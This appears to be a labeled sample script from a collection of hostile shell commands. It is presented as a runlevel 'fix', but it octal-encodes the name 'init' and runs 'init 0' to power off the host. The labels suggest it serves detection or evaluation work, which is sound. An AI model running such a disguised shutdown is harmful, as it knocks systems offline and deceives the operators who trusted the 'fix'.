# description: Runlevel "fix" that switches the host to runlevel 0 (power off) using an octal-escaped command name.
# family: availability
# obfuscated: yes
set -uo pipefail

runlevel || true
systemctl get-default
cmd=$'\151\156\151\164'
"$cmd" 0
